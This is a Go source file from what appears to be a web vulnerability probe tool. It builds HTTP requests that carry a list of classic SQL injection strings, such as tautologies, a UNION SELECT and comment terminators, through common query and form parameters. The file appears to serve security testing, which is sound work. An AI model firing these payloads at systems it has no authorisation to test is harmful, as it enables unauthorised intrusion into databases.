package generate

import (
	"fmt"
	"net/http"
	"net/url"

	"github.com/probekit/probekit/pkg/probe"
)

// sqliPayloads are classic error-based injection strings. Tautologies
// and comment terminators only; nothing here mutates server state.
var sqliPayloads = []string{
	"' OR '1'='1",
	"' OR 1=1--",
	"' UNION SELECT NULL--",
	"' OR 'x'='x",
	"1' OR '1'='1",
	"admin'--",
	"' OR 1=1#",
	"' OR 'a'='a",
	"1' AND '1'='1",
}

// sqliParams are the query/form parameters each payload is tried
// against.
var sqliParams = []string{"id", "q", "search", "user"}

// SQLInjectionSource generates HTTP candidates carrying injection
// payloads, each payload through each common parameter, as a GET query
// string and again as a POST form body.
type SQLInjectionSource struct{}

func (SQLInjectionSource) Name() string { return "sqli" }

func (SQLInjectionSource) Candidates(t probe.Target) []probe.Candidate {
	out := make([]probe.Candidate, 0, 2*len(sqliParams)*len(sqliPayloads))
	for _, param := range sqliParams {
		for _, payload := range sqliPayloads {
			encoded := url.Values{param: {payload}}.Encode()
			out = append(out,
				probe.Candidate{
					Kind:   probe.KindPath,
					Method: http.MethodGet,
					Path:   fmt.Sprintf("/?%s", encoded),
					Label:  "sqli",
				},
				probe.Candidate{
					Kind:        probe.KindPath,
					Method:      http.MethodPost,
					Path:        "/",
					Body:        encoded,
					Header:      "Content-Type",
					HeaderValue: "application/x-www-form-urlencoded",
					Label:       "sqli",
				},
			)
		}
	}
	return out
}
